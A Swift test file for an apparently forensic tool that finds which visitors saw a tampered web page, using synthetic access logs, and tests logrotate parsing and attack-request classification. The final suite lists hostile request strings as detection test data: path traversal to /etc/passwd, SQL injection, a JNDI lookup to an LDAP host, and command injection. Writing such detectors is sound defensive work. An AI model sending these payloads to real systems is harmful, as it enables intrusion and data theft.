import Model
import Testing

@testable import Inquiry

@Suite struct `Who was exposed` {
    private static let page: RawText = "/srv/www/html/index.html"
    private static let altered: Int64 = 1_600_000_000
    private static let mended: Int64 = altered + 50_000

    /// One visitor with a browser for each number, from an address of its own.
    private static func address(_ number: Int) -> RawText { RawText("198.51.\(number / 250 % 250).\(number % 250)") }

    private static func request(
        _ gatherer: inout TrailGatherer, _ address: RawText, at time: Int64, _ path: RawText = "/index.html", status: Int = 200,
        bytes: Int64,
        agent: RawText = "Mozilla/5.0 (X11)", method: RawText = "GET", referer: RawText = "-"
    ) {
        var text: [UInt8] = []
        func add(_ value: RawText) -> Slice {
            defer { text += value.bytes }
            return Slice(text.count..<text.count + value.count)
        }
        var draft = EventDraft()
        (draft.format, draft.kind) = ("http.access", .httpRequest)
        (draft.address, draft.path, draft.agent) = (add(address), add(path), add(agent))
        (draft.method, draft.referer) = (add(method), add(referer))
        (draft.status, draft.bytes, draft.record) = (status, bytes, 0..<text.count)
        gatherer.take(text.span, &draft, time: EventTime(Timestamp(seconds: time)), line: 1, offset: 0)
    }

    /// Ten thousand people within the window, one a second before it, one a second after it, robots, and an intruder.
    private static func answer(forged: Bool = false) -> Answer {
        var facts = Facts.made()
        facts.now = Timestamp(seconds: altered + 100_000)
        facts.webRoots = ["/srv/www/html"]
        let stamp = TimeMark(Timestamp(seconds: forged ? altered - 9_000_000 : altered), .modified, clock: .settable, path: page)
        let finding = Finding.made("web.page.injected", aspect: .tampering, path: page, times: [stamp])
        var investigation = Investigation(facts, [finding])
        let lens = investigation.lens(path: "/var/log/apache2/access.log", family: "/var/log/apache2/access.log")
        var gatherer = TrailGatherer(lens)
        for number in 0..<200 { request(&gatherer, RawText("192.0.2.\(number)"), at: altered - 20_000 + Int64(number) * 90, bytes: 1_000) }
        request(&gatherer, "203.0.113.1", at: altered - 1, bytes: 1_000)
        for number in 0..<10_000 {
            // Pages come whole, in part, or again from the visitor's own store.
            let status = number % 10 == 7 ? 206 : number % 10 == 8 ? 304 : 200
            request(&gatherer, address(number), at: altered + Int64(number) * 5, status: status, bytes: status == 200 ? 1_200 : 0)
        }
        investigation.absorb(gatherer)
        gatherer = TrailGatherer(lens)
        request(&gatherer, "203.0.113.20", at: altered + 10, bytes: 1_200, agent: "Googlebot/2.1")
        request(&gatherer, "203.0.113.21", at: altered + 20, "/robots.txt", bytes: 10)
        request(&gatherer, "203.0.113.21", at: altered + 21, bytes: 1_200)
        for step in 0..<60 { request(&gatherer, "203.0.113.22", at: altered + 30 + Int64(step), bytes: 1_200) }
        request(&gatherer, "203.0.113.23", at: altered + 40, bytes: 0, method: "HEAD")
        request(&gatherer, "203.0.113.24", at: altered + 45, status: 404, bytes: 90)
        request(&gatherer, address(17), at: altered + 600, "/shop/checkout", status: 302, bytes: 0, method: "POST")
        for number in 0..<200 { request(&gatherer, RawText("192.0.2.\(number)"), at: mended + Int64(number) * 60, bytes: 1_000) }
        investigation.absorb(gatherer)
        var report = SourceReport(path: "/var/log/apache2/access.log")
        report.kinds[.httpRequest] = 20_000
        (report.first, report.last) = (Timestamp(seconds: altered - 20_000), Timestamp(seconds: altered + 90_000))
        investigation.finish(ReadLog(report: report, family: report.path, age: 0))
        return investigation.answer(Conclusion(facts, [finding])).answer
    }

    @Test func `is everybody within the window, to the second, and no robot`() throws {
        let exposure = try #require(Self.answer().exposures.first)
        #expect(exposure.from == Timestamp(seconds: Self.altered))
        #expect(exposure.until == Timestamp(seconds: Self.mended))
        #expect(exposure.basis == .sizeStep)
        let people = Set(exposure.persons.map(\.address))
        #expect(people == Set((0..<10_000).map(Self.address)))
        #expect(exposure.visitors.filter { $0.robot != nil }.map(\.address) == ["203.0.113.20", "203.0.113.21", "203.0.113.22"])
        #expect(!exposure.visitors.contains { $0.address == "203.0.113.23" || $0.address == "203.0.113.24" })
        #expect(exposure.persons.filter { $0.deeds.contains(.order) }.map(\.address) == [Self.address(17)])
        #expect(exposure.limits.count == 1, "what caches gave out is not known; everything else is")
    }

    @Test func `is known from the size of the answers where the stamp was forged`() throws {
        let exposure = try #require(Self.answer(forged: true).exposures.first)
        #expect(exposure.from == Timestamp(seconds: Self.altered))
        #expect(exposure.basis == .sizeStep)
    }

    @Test func `is said to be unknown where there is no access log`() throws {
        var facts = Facts.made()
        facts.webRoots = ["/srv/www/html"]
        let finding = Finding.made(path: Self.page, "2011-03-12T00:30:00+09:00")
        let exposures = Investigation(facts, [finding]).answer(Conclusion(facts, [finding])).answer.exposures
        #expect(exposures.first?.visitors.isEmpty == true)
        #expect(exposures.first?.limits.count == 1)
    }

    @Test func `is a whole site where a piece of every page was altered`() {
        let finding = Finding.made(path: "/srv/www/html/wp-content/themes/a/header.php", "2011-03-12T00:30:00+09:00")
        var facts = Facts.made()
        facts.webRoots = ["/srv/www/html"]
        #expect(Interests(facts, [finding]).pages.first?.folder == "/")
        let setting = Finding.made(path: "/srv/www/html/shop/.htaccess", "2011-03-12T00:30:00+09:00")
        #expect(Interests(facts, [setting]).pages.first?.folder == "/shop/")
    }
}

@Suite struct `A step in the size of answers` {
    @Test func `divides old sizes from new ones`() {
        let answers = [(1, 10), (2, 10), (3, 11), (4, 10), (10, 20), (11, 20), (12, 21), (13, 20)].map {
            (time: Int64($0.0), size: Int32($0.1))
        }
        #expect(SizeStep.find(answers, near: nil) == SizeStep(lastOld: 4, firstNew: 10))
    }

    @Test func `is none where sizes never settle, or never change`() {
        #expect(SizeStep.find((0..<100).map { (time: Int64($0), size: Int32($0)) }, near: nil) == nil)
        #expect(SizeStep.find((0..<100).map { (time: Int64($0), size: 5) }, near: nil) == nil)
        #expect(SizeStep.find((0..<100).map { (time: Int64($0), size: Int32($0 % 2)) }, near: nil) == nil)
        #expect(SizeStep.find([], near: 5) == nil)
    }
}

@Suite struct `The rules of rotation` {
    private let text = """
        # the whole host
        weekly
        rotate 4
        include /etc/logrotate.d
        /var/log/wtmp {
            monthly
            rotate 1
        }
        "/var/log/apache2/*.log" /var/log/other.log
        {
            daily
            rotate 14
            postrotate
                rotate 99
            endscript
        }
        """

    @Test func `say how long a line is kept`() {
        var rules = RotationRules()
        rules.read("/etc/logrotate.conf", Array(text.utf8))
        rules.read("/etc/logrotate.d/rsyslog", Array("/var/log/auth.log\n{\n\tnotifempty\n}\n".utf8))
        #expect(rules.kept("/var/log/wtmp") == 2_678_400)
        #expect(rules.kept("/var/log/apache2/access.log") == 1_209_600)
        #expect(rules.kept("/var/log/apache2/deep/access.log") == nil, "a star does not cross a slash")
        #expect(rules.kept("/var/log/other.log") == 1_209_600)
        #expect(rules.kept("/var/log/auth.log") == 2_419_200, "what stands outside of blocks holds for all")
    }

    @Test(arguments: [
        "", "{", "}", "/a {", "/a {\n/b {\n}", "rotate", "rotate 99999999999999999999", "/a { \n rotate -1\n}", "\"", "postrotate\n}",
    ])
    func `of any text are read without harm`(text: String) {
        var rules = RotationRules()
        rules.read("/x", Array(text.utf8))
        #expect(rules.kept("/nowhere") == nil)
    }
}

@Suite struct `The key of an address` {
    @Test(
        arguments: [
            "192.0.2.7", "", "a", "255.255.255.255", "2001:db8::7", "2001:db8:0:0:1::", "fe80::1", "host.example.org", "abcdefghijklmno",
        ] as [RawText])
    func `gives back its text, or says that it cannot`(text: RawText) {
        let (key, isDigest) = AddressKey.of(text.bytes.span)
        if isDigest {
            #expect(key.text == nil)
        } else {
            #expect(NetworkAddress(key.text ?? "") == NetworkAddress(text) && key.text?.isEmpty == text.isEmpty)
        }
    }

    @Test func `of different texts is different`() {
        let texts = ["192.0.2.1", "192.0.2.11", "192.0.21.1", "1.92.0.21", "a-name-that-is-longer", "a-name-that-is-longes"].map {
            RawText($0)
        }
        #expect(Set(texts.map { AddressKey.of($0.bytes.span).key }).count == texts.count)
    }
}

@Suite struct `A request` {
    @Test(
        arguments: [
            ("/a?f=..%2f..%2fetc/passwd", .traversal), ("/?id=1'%20UNION%20ALL%20SELECT%201", .injectionSQL),
            ("/x?a=${jndi:ldap://192.0.2.1/a}", .lookup),
            ("/cgi-bin/.%2e/.%2e/bin/sh", .traversal), ("/i.php?cmd=id", .injectionCommand), ("/phpmyadmin/", .probe), ("/index.html", nil),
            ("/shop?item=5&page=2", nil), ("%", nil), ("%f", nil), ("", nil),
        ] as [(RawText, AttackKind?)])
    func `is told for what it tries`(target: RawText, kind: AttackKind?) {
        #expect(AttackKind.of(target.bytes.span) == kind)
    }
}
